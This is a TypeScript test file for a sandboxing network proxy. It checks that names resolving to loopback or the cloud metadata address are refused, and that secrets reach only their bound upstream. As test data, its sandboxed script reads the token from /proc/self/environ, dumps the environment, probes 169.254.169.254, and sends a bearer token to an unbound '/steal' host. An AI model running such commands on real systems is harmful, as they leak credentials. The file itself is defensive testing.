/**
 * Issue 4 acceptance: SSRF (allowed names that resolve to local or private addresses) and
 * credentials (the sandbox holds only placeholders; the upstream gets the secret; nothing logs it).
 */
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startUpstreams, type Upstreams } from '../proxy/harness.js';
import { freshHome } from '../helpers/cli.js';
import { networkPolicy, readAudit, runCli } from '../helpers/network.js';
import { sharedTempDir } from '../helpers/sandbox.js';

let up: Upstreams;
beforeAll(async () => {
  up = await startUpstreams();
});
afterAll(() => up.close());

const status = (url: string, extra = '') => `curl -sS ${extra} -o /dev/null -w '%{http_code}\\n' "${url}"`;

describe('SSRF: what an allowed name resolves to is checked', () => {
  it('an allowed name resolving to 127.0.0.1 or 169.254.169.254 is refused unless trusted with --allow-local', async () => {
    const policy = networkPolicy(`  web:
    name: web
    endpoints:
      - { host: loop.test, port: ${up.httpPort}, access: full }
      - { host: metadata.test, port: 80, access: full }
`);
    const audit = join(sharedTempDir(), 'audit.jsonl');
    const common = [
      '--policy',
      policy,
      '--audit',
      audit,
      '--resolve',
      'loop.test=127.0.0.1',
      '--resolve',
      'metadata.test=169.254.169.254',
    ];
    const script = [
      'sh',
      '-c',
      [status(`http://loop.test:${up.httpPort}/a`), status('http://metadata.test/latest/meta-data/')].join(
        '; ',
      ),
    ];
    const refused = await runCli(['run', ...common, '--', ...script]);
    expect(refused.stdout.trim().split('\n')).toEqual(['403', '403']);
    const reasons = readAudit(audit)
      .filter((e) => e.class_uid === 4001 && e.disposition_id === 2)
      .map((e) => String(e.unmapped.reason));
    expect(reasons[0]).toMatch(/127\.0\.0\.1/);
    expect(reasons[1]).toMatch(/169\.254\.169\.254/);
    expect(up.seen.some((s) => s.url === '/a')).toBe(false);

    const trusted = await runCli([
      'run',
      ...common,
      '--allow-local',
      `127.0.0.1:${up.httpPort}`,
      '--',
      ...script,
    ]);
    expect(trusted.stdout.trim().split('\n')).toEqual(['200', '403']);
  });

  it('allowed_ips lets a private address through (an upstream in a network namespace of our own)', async () => {
    const ns = `cpt${randomBytes(3).toString('hex')}`; // interface names: at most 15 characters
    const ip = (...args: string[]) => {
      const r = spawnSync('ip', args, { encoding: 'utf8' });
      if (r.status !== 0) throw new Error(`ip ${args.join(' ')}: ${r.stderr}`);
    };
    const octet = 1 + ((randomBytes(1)[0] ?? 0) % 250);
    const hostAddr = `10.213.${octet}.1`;
    const nsAddr = `10.213.${octet}.2`;
    ip('netns', 'add', ns);
    let server: ReturnType<typeof import('node:child_process').spawn> | null = null;
    try {
      ip('link', 'add', `${ns}a`, 'type', 'veth', 'peer', 'name', `${ns}b`);
      ip('link', 'set', `${ns}b`, 'netns', ns);
      ip('addr', 'add', `${hostAddr}/30`, 'dev', `${ns}a`);
      ip('link', 'set', `${ns}a`, 'up');
      ip('-n', ns, 'addr', 'add', `${nsAddr}/30`, 'dev', `${ns}b`);
      ip('-n', ns, 'link', 'set', `${ns}b`, 'up');
      ip('-n', ns, 'link', 'set', 'lo', 'up');
      const { spawn } = await import('node:child_process');
      server = spawn('ip', ['netns', 'exec', ns, 'python3', '-m', 'http.server', '8080', '--bind', nsAddr], {
        stdio: 'ignore',
      });
      await new Promise((r) => setTimeout(r, 1500));
      const endpoint = (extra: string) =>
        networkPolicy(`  private:
    name: private
    endpoints:
      - { host: intranet.test, port: 8080, access: full${extra} }
`);
      const run = (policy: string) =>
        runCli([
          'run',
          '--policy',
          policy,
          '--resolve',
          `intranet.test=${nsAddr}`,
          '--',
          'sh',
          '-c',
          status('http://intranet.test:8080/'),
        ]);
      expect((await run(endpoint(''))).stdout.trim()).toBe('403');
      expect((await run(endpoint(', allowed_ips: [10.213.0.0/16]'))).stdout.trim()).toBe('200');
    } finally {
      server?.kill();
      spawnSync('ip', ['link', 'del', `${ns}a`]);
      spawnSync('ip', ['netns', 'del', ns]);
    }
  });
});

describe('credentials', () => {
  const secret = `ghp_${randomBytes(12).toString('hex')}`;

  it('the sandbox sees only the placeholder; the bound upstream gets the secret; nothing logs it', async () => {
    const home = freshHome();
    const ws = sharedTempDir('carapace-ws-');
    const auditDir = sharedTempDir();
    const audit = join(auditDir, 'audit.jsonl');
    const policy = networkPolicy(`  github:
    name: github
    endpoints:
      - { host: api.github.test, port: ${up.httpsPort}, protocol: rest, access: full, credentials: [GITHUB_TOKEN] }
      - { host: other.test, port: ${up.httpsPort}, protocol: rest, access: full }
`);
    const r = await runCli(
      [
        'run',
        '--policy',
        policy,
        '--workspace',
        ws,
        '--audit',
        audit,
        '--credential',
        'GITHUB_TOKEN',
        '--resolve',
        'api.github.test=127.0.0.1',
        '--resolve',
        'other.test=127.0.0.1',
        '--allow-local',
        `127.0.0.1:${up.httpsPort}`,
        '--upstream-ca',
        up.caFile,
        '--',
        'sh',
        '-c',
        [
          'echo "env=$GITHUB_TOKEN"',
          'cat /proc/self/environ | tr "\\0" "\\n" | grep ^GITHUB_TOKEN=',
          'env > /sandbox/env-dump',
          status(`https://api.github.test:${up.httpsPort}/user`, '-H "Authorization: Bearer $GITHUB_TOKEN"'),
          status(`https://api.github.test:${up.httpsPort}/basic`, '-u "x-access-token:$GITHUB_TOKEN"'),
          status(`https://api.github.test:${up.httpsPort}/q?token=$GITHUB_TOKEN`),
          status(`https://other.test:${up.httpsPort}/steal`, '-H "Authorization: Bearer $GITHUB_TOKEN"'),
        ].join('; '),
      ],
      { home, env: { GITHUB_TOKEN: secret } },
    );
    const lines = r.stdout.trim().split('\n');
    expect(lines.slice(0, 2)).toEqual([
      'env=carapace:cred:GITHUB_TOKEN',
      'GITHUB_TOKEN=carapace:cred:GITHUB_TOKEN',
    ]);
    expect(lines.slice(2)).toEqual(['200', '200', '200', '403']);

    const seen = (url: string) => up.seen.find((s) => s.url.startsWith(url));
    expect(seen('/user')?.headers.authorization).toBe(`Bearer ${secret}`);
    const basic = Buffer.from(
      String(seen('/basic')?.headers.authorization).replace(/^Basic /, ''),
      'base64',
    ).toString();
    expect(basic).toBe(`x-access-token:${secret}`);
    expect(seen('/q')?.url).toBe(`/q?token=${secret}`);
    expect(seen('/steal')).toBeUndefined();
    const events = readAudit(audit);
    expect(events.some((e) => e.class_uid === 2004)).toBe(true);

    for (const dir of [home, ws, auditDir]) expect(filesContaining(dir, secret)).toEqual([]);
    expect(r.stdout + r.stderr).not.toContain(secret);
  });
});

/** Every regular file under `dir` whose bytes contain `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const hits: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      const st = statSync(p, { throwIfNoEntry: false });
      if (!st) continue;
      if (st.isDirectory()) walk(p);
      else if (st.isFile() && readFileSync(p).includes(needle)) hits.push(p);
    }
  };
  walk(dir);
  return hits;
}
